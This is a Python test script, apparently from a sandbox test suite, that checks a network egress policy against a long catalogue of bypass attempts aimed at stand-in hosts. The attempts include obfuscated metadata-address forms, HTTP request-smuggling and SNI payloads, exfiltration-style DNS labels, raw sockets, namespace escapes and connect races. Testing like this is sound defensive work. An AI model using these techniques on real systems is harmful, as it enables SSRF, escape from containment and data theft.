# SPDX-License-Identifier: MIT
"""Ways around the network policy, tried by a command; runs inside a session.

usage: bypass.py CA_FILE WORKSPACE [open CLASS...]		(see attempts.py)
"""
import array
import ctypes
import errno
import os
import select
import socket
import struct
import threading

from attempts import (EVIL, EVIL6, META, OPEN, PATIENCE, PRIVATE, PROXY, WEB,
                      attempt, hello, libc, query, system_call, talk, tcp, udp,
                      via_proxy)

# --- forms of addresses and names, asked of the proxy ----------------------

FORMS = {
    "dotted": META, "decimal": "2852039166", "hex": "0xA9FEA9FE",
    "octal": "0251.0376.0251.0376", "short": "169.254.43518",
    "mixed": "0xa9.254.0251.0376", "leading zeros": "169.0254.169.254",
    "mapped": "[::ffff:169.254.169.254]", "mapped hex": "[::ffff:a9fe:a9fe]",
    "compatible": "[::169.254.169.254]", "nat64": "[64:ff9b::a9fe:a9fe]",
    "nat64 local": "[64:ff9b:1::a9fe:a9fe]", "6to4": "[2002:a9fe:a9fe::]",
    "teredo": "[2001:0:a9fe:a9fe::]", "translated": "[::ffff:0:a9fe:a9fe]",
    "zone": "[::ffff:169.254.169.254%25lo]", "zone bare": "[fe80::1%lo]",
    "v6 metadata": "[fd00:ec2::254]", "trailing dot": META + ".",
    "wide digits": "\uff11\uff16\uff19.254.169.254".encode().decode("latin-1"),
    "circled": "\u2460\u2465\u2468.254.169.254".encode().decode("latin-1"),
    "ideographic dots": "169\u3002254\u3002169\u3002254".encode().decode(
        "latin-1"),
    "percent": "%31%36%39.254.169.254", "private": PRIVATE,
    "unspecified": "0.0.0.0", "zero": "0", "any six": "[::]",
    "loopback six": "[::1]", "azure": "168.63.129.16",
    "alibaba": "100.100.100.200", "broadcast": "255.255.255.255",
    "multicast": "224.0.0.251", "nat": "100.64.0.1",
    "metadata name": "metadata.google.internal",
    "metadata upper": "METADATA.google.internal.", "evil": EVIL,
    "evil six": f"[{EVIL6}]", "denied name": "evil.test",
    "denied upper": "EVIL.TEST.", "suffix": "evilgood.test",
    "inside": "good.test.evil.test", "prefix": "good.testevil.test",
    "user": "good.test@evil.test", "fragment": "evil.test#.good.test",
    "backslash": "evil.test\\.good.test", "nul": "evil.test\0.good.test",
    "space": "evil.test .good.test", "tab": "evil.test\t.good.test",
    "rebinding": "rebind.test", "to private": "inside.test",
    "to loopback": "loop.test", "bracket name": "[evil.test]",
    "bracket v4": "[169.254.169.254]", "underscore": "_evil.test",
}
for name, host in FORMS.items():
    raw = host.encode("latin-1")
    attempt("forms/http " + name, lambda: via_proxy(
        b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (raw, raw)))
    attempt("forms/connect " + name, lambda: via_proxy(
        b"CONNECT %s:80 HTTP/1.1\r\nHost: %s:80\r\n\r\n" % (raw, raw)))

    def socks():
        s = socket.create_connection(PROXY, PATIENCE)
        s.settimeout(PATIENCE)
        s.sendall(b"\5\1\0")
        s.recv(2)
        bare = raw.strip(b"[]")
        s.sendall(b"\5\1\0\3" + bytes([len(bare)]) + bare + b"\0\x50")
        reply = s.recv(10)
        return reply if reply[1:2] == b"\0" else None

    attempt("forms/socks " + name, socks)
for port in b"080", b"+80", b"80x", b"0x50", b"65616", b" 80", b"":
    attempt("forms/port " + port.decode(), lambda: via_proxy(
        b"CONNECT evil.test:%s HTTP/1.1\r\nHost: evil.test\r\n\r\n" % port))

# --- two readings of one request -------------------------------------------

HEAD = b"GET http://good.test/ HTTP/1.1\r\nHost: good.test\r\n"
POST = b"POST" + HEAD[3:]
INNER = b"GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
for name, text in {
        "chunked upper case": POST + b"Transfer-Encoding: Chunked\r\n"
                              b"Content-Length: 5\r\n\r\n0\r\n\r\n" + INNER,
        "two codings": POST + b"Transfer-Encoding: chunked\r\n"
                       b"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n" + INNER,
        "tab before chunked": POST + b"Transfer-Encoding:\x0bchunked\r\n"
                              b"Content-Length: 3\r\n\r\nabc" + INNER,
        "negative length": POST + b"Content-Length: -1\r\n\r\n" + INNER,
        "hex length": POST + b"Content-Length: 0x10\r\n\r\n" + INNER,
        "two lengths": POST + b"Content-Length: 3, 4\r\n\r\nabc" + INNER,
        "chunk overflow": POST + b"Transfer-Encoding: chunked\r\n\r\n"
                          b"10000000000000000\r\n" + INNER,
        "chunk minus": POST + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n" +
                       INNER,
        "bare cr": HEAD + b"X: a\rGET http://evil.test/ HTTP/1.1\r\n\r\n",
        "folded": HEAD + b"X: a\r\n\tHost: evil.test\r\n\r\n",
        "colon": HEAD + b"Host : evil.test\r\n\r\n",
        "http 0.9": b"GET http://evil.test/\r\n\r\n",
        "lower case": b"get http://evil.test/ http/1.1\r\n\r\n",
        "second scheme": b"GET https://evil.test:80/ HTTP/1.1\r\n"
                         b"Host: good.test\r\n\r\n",
        "origin form": b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "two targets": b"GET http://good.test/ http://evil.test/ HTTP/1.1\r\n"
                       b"Host: good.test\r\n\r\n",
        "pipelined": HEAD + b"\r\n" + INNER,
        "after connect": b"CONNECT evil.test:443 HTTP/1.1\r\n"
                         b"Host: good.test:443\r\n\r\n",
        "double slash": b"GET http:////evil.test/ HTTP/1.1\r\n"
                        b"Host: evil.test\r\n\r\n",
        "upgrade": b"GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\n"
                   b"Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n"}.items():
    def smuggle():
        s = socket.create_connection(PROXY, PATIENCE)
        s.sendall(text)
        s.shutdown(socket.SHUT_WR)
        s.settimeout(PATIENCE)
        data = b""
        while part := s.recv(65536):
            data += part
        return data if b"host=evil.test path" in data else None

    attempt("desync/" + name, smuggle)

# --- TLS server names ------------------------------------------------------


TWO = b"\0\0" + struct.pack(">H", 14) + struct.pack(
    ">HBH", 12, 0, 9) + b"good.test"
ECH = b"\xfe\x0d" + struct.pack(">H", 10) + b"\0" * 10
HELLOS = {
    "other": hello(b"evil.test"), "none": hello(b""),
    "nul": hello(b"good.test\0evil.test"), "two": hello(b"evil.test", TWO),
    "ech of another": hello(b"evil.test", ECH),
    "address": hello(EVIL.encode()), "trailing": hello(b"good.test.evil.test"),
    "cut": hello(b"good.test")[:40] + b"\x15\3\3\0\2\1\0",
    "record of nothing": b"\x16\3\1\0\0" + hello(b"evil.test"),
    "alert first": b"\x15\3\1\0\2\1\0" + hello(b"evil.test"),
}
for name, data in HELLOS.items():
    def tunnel():
        s = socket.create_connection(PROXY, PATIENCE)
        s.settimeout(PATIENCE)
        s.sendall(b"CONNECT good.test:443 HTTP/1.1\r\n"
                  b"Host: good.test:443\r\n\r\n")
        s.recv(4096)
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        got = s.recv(5)
        return got if got[:1] == b"\x16" else None

    attempt("sni/" + name, tunnel)

# --- the DNS ---------------------------------------------------------------


for name, function in {
        "denied": lambda: query("evil.test"),
        "metadata": lambda: query("metadata.google.internal"),
        "points at metadata": lambda: query("rebind.test"),
        "hex label": lambda: query("deadbeef0123456789abcdef01.good.test"),
        "base32 label": lambda: query("mfrggzdfmztwq2lknnwg23tpobyxe43u.good.test"),
        "long label": lambda: query("a" * 62 + ".good.test"),
        "txt": lambda: query("good.test", 16), "any": lambda: query("good.test", 255),
        "null": lambda: query("good.test", 10), "srv": lambda: query("_x._tcp.evil.test", 33),
        "axfr": lambda: query("evil.test", 252),
        "nul in a label": lambda: query("evil\0.good.test"),
        "dot in a label": lambda: query("", raw=struct.pack(
            ">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x0fevil.test.good.\4test\0\0\1\0\1"),
        "compression loop": lambda: query("", raw=struct.pack(
            ">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1"),
        "two questions": lambda: query("", raw=struct.pack(
            ">HHHHHH", 7, 0x100, 2, 0, 0, 0) + b"\4good\4test\0\0\1\0\1" +
            b"\4evil\4test\0\0\1\0\1"),
        "over six": lambda: query("evil.test", server="2001:4860:4860::8888"),
        "at the host's resolver": lambda: query("evil.test", server="9.9.9.9"),
        "as data to metadata": lambda: query("evil.test", server=META)}.items():
    attempt("dns/" + name, function)

# --- sockets ---------------------------------------------------------------

attempt("connect/tcp", tcp(EVIL))
attempt("connect/metadata", tcp(META))
attempt("connect/private", tcp(PRIVATE))
attempt("connect/six", tcp(EVIL6, 80, socket.AF_INET6))
attempt("connect/mapped", tcp("::ffff:" + EVIL, 80, socket.AF_INET6))
attempt("connect/nat64", tcp("64:ff9b::2d21:209c", 80, socket.AF_INET6))
attempt("connect/odd port", tcp(EVIL, 31337))
attempt("connect/own address", tcp("9.9.9.9", 53))


def not_waiting():
    s = socket.socket()
    s.setblocking(False)
    r = s.connect_ex((EVIL, 80))
    if r != errno.EINPROGRESS:
        return None
    select.select([], [s], [], 2)
    s.setblocking(True)
    return talk(s)


def unspec_family():
    s = socket.socket()
    raw = struct.pack("=HH4s8x", 0, socket.htons(80), socket.inet_aton(EVIL))
    if libc.connect(s.fileno(), raw, 16) == 0:
        return talk(s) if s.getpeername() else None
    return None


def long_address():
    s = socket.socket()
    raw = struct.pack("=HH4s8x", 2, socket.htons(80), socket.inet_aton(EVIL))
    return talk(s) if libc.connect(s.fileno(), raw + b"\0" * 112, 128) == 0 \
        else None


def after_a_good_one():
    s = socket.socket()
    s.settimeout(PATIENCE)
    socket.gethostbyname("good.test")
    s.connect((WEB, 80))
    none = struct.pack("=H14x", 0)
    libc.connect(s.fileno(), none, 16)
    return talk(s, (EVIL, 80))


def inherited():
    """Made by a parent that did not connect it, used by its child."""
    s = socket.socket()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        got = b""
        try:
            got = talk(s, (EVIL, 80))
        except OSError:
            pass
        os.write(w, got[:100])
        os._exit(0)
    os.close(w)
    os.waitpid(pid, 0)
    return os.read(r, 100)


def passed():
    """Sent over a unix socket to another process."""
    a, b = socket.socketpair()
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        fds = array.array("i")
        _, control, _, _ = b.recvmsg(1, 100)
        fds.frombytes(control[0][2][:4])
        got = b""
        try:
            got = talk(socket.socket(fileno=fds[0]), (EVIL, 80))
        except OSError:
            pass
        os.write(w, got[:100])
        os._exit(0)
    os.close(w)
    s = socket.socket()
    a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS,
                        array.array("i", [s.fileno()]))])
    os.waitpid(pid, 0)
    return os.read(r, 100)


def source_route():
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS,
                 bytes([131, 7, 4]) + socket.inet_aton(EVIL) + b"\0")
    socket.gethostbyname("good.test")
    s.settimeout(PATIENCE)
    s.connect((WEB, 80))
    s.sendall(b"GET /routed HTTP/1.1\r\nHost: evil.test\r\n\r\n")
    got = s.recv(1000)
    return got if b"host=evil" in got else None


attempt("connect/not waiting", not_waiting)
attempt("connect/AF_UNSPEC", unspec_family)
attempt("connect/long address", long_address)
attempt("connect/after a good one", after_a_good_one)
attempt("connect/inherited socket", inherited)
attempt("connect/passed socket", passed)
attempt("connect/source route", source_route)


def fast_open(option):
    s = socket.socket()
    if option:
        s.setsockopt(socket.IPPROTO_TCP, 30, 1)
        return talk(s, (EVIL, 80))
    s.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (EVIL, 80))
    s.settimeout(PATIENCE)
    return s.recv(100)


def fast_open_vector(call):
    """MSG_FASTOPEN by sendmsg or sendmmsg."""
    s = socket.socket()
    to = struct.pack("=HH4s8x", 2, socket.htons(80), socket.inet_aton(EVIL))
    data = ctypes.create_string_buffer(b"GET / HTTP/1.0\r\n\r\n")
    name = ctypes.create_string_buffer(to)
    iov = struct.pack("PN", ctypes.addressof(data), 18)
    iov_at = ctypes.create_string_buffer(iov)
    head = struct.pack("PIxxxxPNPNixxxx", ctypes.addressof(name), 16,
                       ctypes.addressof(iov_at), 1, 0, 0, 0) + b"\0" * 8
    if call == "sendmsg":
        r = libc.sendmsg(s.fileno(), head, 0x20000000)
    else:
        r = libc.sendmmsg(s.fileno(), ctypes.create_string_buffer(head), 1,
                          0x20000000)
    if r < 0:
        return None
    s.settimeout(PATIENCE)
    return s.recv(100)


attempt("fastopen/sendto", lambda: fast_open(False))
attempt("fastopen/option", lambda: fast_open(True))
attempt("fastopen/sendmsg", lambda: fast_open_vector("sendmsg"))
attempt("fastopen/sendmmsg", lambda: fast_open_vector("sendmmsg"))

# --- datagrams -------------------------------------------------------------


def mmsg():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    heads, keep = b"", []
    for host, port in ((WEB, 53), (EVIL, 443)):
        name = ctypes.create_string_buffer(struct.pack(
            "=HH4s8x", 2, socket.htons(port), socket.inet_aton(host)))
        data = ctypes.create_string_buffer(b"x" * 30)
        iov = ctypes.create_string_buffer(struct.pack(
            "PN", ctypes.addressof(data), 30))
        keep += [name, data, iov]
        heads += struct.pack("PIxxxxPNPNixxxx", ctypes.addressof(name), 16,
                             ctypes.addressof(iov), 1, 0, 0, 0) + b"\0" * 8
    r = libc.sendmmsg(s.fileno(), ctypes.create_string_buffer(heads), 2, 0)
    return "sent two" if r > 1 else None


for how in "sendto", "sendmsg", "connect", "unspec":
    attempt("udp/quic " + how, lambda: udp((EVIL, 443), how))
    attempt("udp/quic to an allowed host " + how, lambda: udp((WEB, 443), how))
attempt("udp/metadata", lambda: udp((META, 80)))
attempt("udp/sendmmsg", mmsg)
attempt("udp/mapped", lambda: udp(("::ffff:" + EVIL, 443), "sendto",
                                  socket.AF_INET6))
attempt("udp/six", lambda: udp((EVIL6, 443), "sendto", socket.AF_INET6))
attempt("udp/multicast", lambda: udp(("224.0.0.251", 5353)))
attempt("udp/multicast six", lambda: udp(("ff02::fb", 5353, 0, 1), "sendto",
                                         socket.AF_INET6))
attempt("udp/ntp", lambda: udp((EVIL, 123)))


def broadcast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(b"x", ("255.255.255.255", 9))
    return "sent"


attempt("udp/broadcast", broadcast)

# --- other kinds of sockets ------------------------------------------------

for name, kind in {
        "mptcp": (2, 1, 262), "sctp": (2, 1, 132), "sctp seq": (2, 5, 132),
        "dccp": (2, 6, 33), "udplite": (2, 2, 136), "raw": (2, 3, 255),
        "raw icmp": (2, 3, 1), "icmp": (2, 2, 1), "icmp six": (10, 2, 58),
        "raw six": (10, 3, 58), "packet": (17, 3, 0x300),
        "packet datagram": (17, 2, 0x300), "vsock": (40, 1, 0),
        "alg": (38, 5, 0), "rds": (21, 5, 0), "tipc": (30, 1, 0),
        "can": (29, 3, 1), "bluetooth": (31, 3, 1), "smc": (43, 1, 0),
        "xdp": (44, 3, 0), "mptcp six": (10, 1, 262),
        "nfnetlink": (16, 3, 12), "smc by tcp": (2, 1, 256)}.items():
    def make():
        s = socket.socket(*kind)
        if kind[0] in (2, 10) and kind[1] in (1, 5):
            return talk(s, (EVIL, 80) if kind[0] == 2 else (EVIL6, 80))
        return f"socket {s}"

    attempt("families/" + name, make)


def io_uring():
    fd = system_call("io_uring_setup", 8, ctypes.create_string_buffer(120))
    return f"ring {fd}" if fd >= 0 else None


def namespace(path):
    fd = os.open(path, os.O_RDONLY)
    if libc.setns(fd, 0x40000000) == 0:
        return tcp(EVIL)() or "entered"
    return None


def unshared():
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.unshare(0x50000000) == 0 else 1)
    return "unshared" if os.waitpid(pid, 0)[1] == 0 else None


attempt("kernel/io_uring", io_uring)
attempt("kernel/setns", lambda: namespace("/proc/1/ns/net"))
attempt("kernel/setns of the parent", lambda: namespace(f"/proc/{os.getppid()}/ns/net")
        if os.stat(f"/proc/{os.getppid()}/ns/net").st_ino !=
        os.stat("/proc/self/ns/net").st_ino else None)
attempt("kernel/unshare", unshared)

# --- races: another thread changes what is judged ---------------------------


def race():
    good = struct.pack("=HH4s8x", 2, socket.htons(80), socket.inet_aton(WEB))
    bad = struct.pack("=HH4s8x", 2, socket.htons(80), socket.inet_aton(EVIL))
    at = ctypes.create_string_buffer(good, 16)
    stop = threading.Event()

    def flip():
        while not stop.is_set():
            ctypes.memmove(at, bad, 16)
            ctypes.memmove(at, good, 16)

    t = threading.Thread(target=flip)
    t.start()
    reached = None
    try:
        for _ in range(60):
            s = socket.socket()
            s.settimeout(PATIENCE)
            if libc.connect(s.fileno(), at, 16) == 0:
                try:
                    if s.getpeername()[0] == EVIL:
                        s.sendall(b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n")
                        reached = s.recv(100) or reached
                except OSError:
                    pass
            s.close()
    finally:
        stop.set()
        t.join()
    return reached


def descriptor_race():
    """The number is another socket's by the time it is used."""
    socket.gethostbyname("good.test")
    keep = [socket.socket() for _ in range(2)]
    stop = threading.Event()
    number = os.dup(keep[0].fileno())

    def flip():
        while not stop.is_set():
            os.dup2(keep[0].fileno(), number)
            os.dup2(keep[1].fileno(), number)

    t = threading.Thread(target=flip)
    t.start()
    bad = struct.pack("=HH4s8x", 2, socket.htons(80), socket.inet_aton(EVIL))
    ok = any(libc.connect(number, bad, 16) == 0 for _ in range(40))
    stop.set()
    t.join()
    for s in keep:
        try:
            if ok and s.getpeername()[0] == EVIL:
                return talk(s)
        except OSError:
            pass
    return None


for name, function in {"address": race, "descriptor": descriptor_race}.items():
    try:
        got = function()
    except OSError:
        got = None
    print(f"race/{name}", "ok" if not got else f"FAILED {got!r}")

# --- what must work --------------------------------------------------------


def check(name, function, *wanted):
    try:
        got = function()
    except OSError as e:
        got = repr(e)
    print("works/" + name, "ok" if got in wanted else f"FAILED {got!r}")


def own_loopback(family, host):
    l = socket.socket(family)
    l.bind((host, 0))
    l.listen()
    c = socket.create_connection(l.getsockname()[:2], PATIENCE)
    s, _ = l.accept()
    s.sendall(b"hello")
    return c.recv(5)


def own_datagrams():
    a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    a.bind(("127.0.0.1", 0))
    a.settimeout(PATIENCE)
    b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    b.sendto(b"hello", a.getsockname())
    return a.recv(5)


if "loopback" not in OPEN:
    check("loopback", lambda: own_loopback(socket.AF_INET, "127.0.0.1"),
          b"hello")
    check("loopback six", lambda: own_loopback(socket.AF_INET6, "::1"),
          b"hello")
    check("loopback datagrams", own_datagrams, b"hello")
check("proxy", lambda: (via_proxy(HEAD + b"\r\n") or b"")[:15], b"HTTP/1.1 200 OK")
if "names" not in OPEN:
    check("lookup", lambda: socket.gethostbyname("good.test"), WEB)
    check("connect by name", lambda: talk(
        socket.create_connection(("good.test", 80), PATIENCE), None,
        b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n")[:15], b"HTTP/1.1 200 OK")
